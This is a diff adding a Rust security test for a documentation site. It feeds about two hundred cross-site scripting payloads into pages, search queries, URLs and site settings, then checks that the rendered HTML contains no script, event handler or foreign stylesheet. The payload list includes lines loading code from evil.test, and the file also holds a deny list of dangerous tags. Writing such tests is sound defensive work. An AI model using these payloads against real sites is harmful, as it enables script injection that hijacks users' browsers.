@@ -1,0 +1,176 @@
+//! A table of payloads in every place where text enters: the answer is read by a parser of HTML, as a browser does,
+//! and nothing in it may run, load from an address that runs, or carry a style.
+
+use html5gum::{Token, Tokenizer};
+use poem::http::StatusCode;
+use serde_json::json;
+
+use crate::world::World;
+
+/// Ends of what a text may stand in, and nothing.
+const ENDS: [&str; 10] =
+    ["", "\">", "'>", "</title>", "</script>", "</style>", "</textarea>", "-->", "]]>", "</code></pre>"];
+/// What would run.
+const BODIES: [&str; 20] = [
+    "<script>alert(1)</script>",
+    "<script src=//evil.test/x.js></script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<iframe src=javascript:alert(1)>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<form action=javascript:alert(1)><input type=submit>",
+    "<button formaction=javascript:alert(1)>x",
+    "<math><mtext><mglyph><style><img src=x onerror=alert(1)>",
+    "<base href=https://evil.test/>",
+    "<link rel=stylesheet href=https://evil.test/x.css>",
+    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
+    "<style>*{background:url(javascript:alert(1))}</style>",
+    "<div style=background:url(javascript:alert(1))>x</div>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<isindex type=image src=1 onerror=alert(1)>",
+];
+
+pub(crate) fn payloads() -> Vec<String> {
+    ENDS.iter().flat_map(|end| BODIES.iter().map(move |body| format!("{end}{body}"))).collect()
+}
+
+/// Elements that a page of ours has none of.
+const NEVER: [&str; 11] = [
+    "iframe", "object", "embed", "base", "style", "frame", "frameset", "applet", "mglyph", "animate",
+    "isindex",
+];
+
+/// Reads an answer as HTML, and finds what could run in it.
+#[track_caller]
+pub(crate) fn harmless(html: &str, what: &str) {
+    for token in Tokenizer::new(html) {
+        let Ok(Token::StartTag(tag)) = token else { continue };
+        let name = String::from_utf8_lossy(&tag.name).into_owned();
+        assert!(!NEVER.contains(&name.as_str()), "{what}: <{name}> in {html}");
+        let value = |wanted: &str| {
+            let found = tag.attributes.iter().find(|(name, _)| name.as_slice() == wanted.as_bytes());
+            found.map(|(_, value)| String::from_utf8_lossy(value).into_owned())
+        };
+        for (attribute, value) in &tag.attributes {
+            let attribute = String::from_utf8_lossy(attribute).into_owned();
+            let text = String::from_utf8_lossy(value).trim().to_ascii_lowercase();
+            assert!(!attribute.starts_with("on"), "{what}: {attribute} in <{name}>");
+            assert!(
+                attribute != "style" && attribute != "srcdoc" && attribute != "formaction",
+                "{what}: {attribute}"
+            );
+            let leads = ["href", "src", "action", "data", "poster", "cite"].contains(&attribute.as_str());
+            let runs = ["javascript:", "data:", "vbscript:"].iter().any(|scheme| text.starts_with(scheme));
+            assert!(!(leads && runs), "{what}: {attribute}={text}");
+            assert!(attribute != "http-equiv", "{what}: {text}");
+        }
+        match name.as_str() {
+            "script" => {
+                let is_ours = value("src").is_some_and(|src| src.starts_with("/sites/"));
+                assert!(
+                    is_ours || value("type").as_deref() == Some("application/ld+json"),
+                    "{what}: a script in {html}"
+                );
+            }
+            "link" => {
+                let is_sheet = value("rel").as_deref() == Some("stylesheet");
+                let is_ours = value("href").is_some_and(|href| href.starts_with("/sites/"));
+                assert!(!is_sheet || is_ours, "{what}: a sheet of another host");
+            }
+            "form" => {
+                assert!(
+                    value("action").is_some_and(|to| to.starts_with("/sites/")),
+                    "{what}: a form that leads away"
+                );
+            }
+            _ => {}
+        }
+    }
+}
+
+/// Markdown with a payload as text, in code, in attributes, as addresses, within HTML, and where Markdown has its own
+/// signs.
+pub(crate) fn everywhere(payload: &str) -> String {
+    format!(
+        "Text {payload}\n\n{payload}\n\n## Head {payload}\n\n`{payload}`\n\n```html\n{payload}\n```\n\n\
+         [{payload}](https://a.test/{payload})\n\n![{payload}](https://a.test/x.png \"{payload}\")\n\n\
+         $${payload}$$\n\n$$\n\\text{{{payload}}} < \\operatorname{{{payload}}}\n$$\n\n\
+         {{% hint style=\"{payload}\" %}}\n{payload}\n{{% endhint %}}\n\n\
+         {{% embed url=\"{payload}\" %}}\n{payload}\n{{% endembed %}}\n\n\
+         {{% tabs %}}\n{{% tab title=\"{payload}\" %}}\n{payload}\n{{% endtab %}}\n{{% endtabs %}}\n\n\
+         {{% code title=\"{payload}\" %}}\n```{payload}\n{payload}\n```\n{{% endcode %}}\n\n\
+         | {payload} | b |\n| - | - |\n| {payload} | c |\n\n<details>\n\n<summary>{payload}</summary>\n\n\
+         {payload}\n\n</details>\n\nWord[^1]\n\n[^1]: {payload}\n"
+    )
+}
+
+/// A text of at most so many characters, as fields of titles have it.
+fn short(text: &str, most: usize) -> String {
+    text.chars().take(most).collect()
+}
+
+#[tokio::test]
+async fn no_text_of_two_hundred_payloads_runs_in_any_place() {
+    let w = World::new().await;
+    let space = w.space("Guide").await;
+    let all = payloads();
+    assert!(all.len() >= 200);
+    w.page(&space, "First", "Start.").await;
+    for chunk in all.chunks(40) {
+        let pages: Vec<_> = chunk
+            .iter()
+            .map(|payload| {
+                let markdown = everywhere(payload);
+                json!({ "operation": "insert_page", "title": short(payload, 100), "description": short(payload, 200),
+                    "document": { "markdown": markdown } })
+            })
+            .collect();
+        w.edit(&space, json!(pages)).await;
+    }
+    let (site, path) = w.site("Docs", &space).await;
+    w.platform.settle().await.expect("settled");
+    let content = w.me().space(&space);
+    let content = content.content().list_pages(Default::default()).await.expect("pages");
+    let paths: Vec<String> = content
+        .pages
+        .iter()
+        .filter_map(|page| match page {
+            docs_core::model::RevisionPage::Document(page) => Some(page.path.clone()),
+            _ => None,
+        })
+        .collect();
+    assert!(paths.len() > 200);
+    for page in &paths {
+        let got = w.get(&format!("{path}{page}")).await;
+        assert_eq!(got.status, StatusCode::OK, "{page}");
+        harmless(&got.body, page);
+    }
+    for payload in all.iter().step_by(7) {
+        let asked =
+            percent_encoding::utf8_percent_encode(payload, percent_encoding::NON_ALPHANUMERIC).to_string();
+        for at in [
+            format!("~site/search?q={asked}"),
+            asked.clone(),
+            format!("first?x={asked}"),
+            format!("~/changes/{asked}"),
+        ] {
+            harmless(&w.get(&format!("{path}{at}")).await.body, payload);
+        }
+        let to = json!({ "kind": "url", "url": payload });
+        let link = json!({ "title": short(payload, 60), "to": to });
+        w.look(&site, json!({
+            "title": short(payload, 50),
+            "header": { "preset": "default", "links": [{ "title": payload, "to": to, "links": [] },
+                { "title": payload, "to": null, "links": [link] }] },
+            "footer": { "groups": [{ "title": payload, "links": [link] }], "copyright": payload },
+            "announcement": { "enabled": true, "message": short(payload, 120), "link": link, "style": "info" },
+        }))
+        .await;
+        harmless(&w.html(&path).await, payload);
+        harmless(&w.get(&format!("{path}~site/icon.svg")).await.body, payload);
+    }
+}
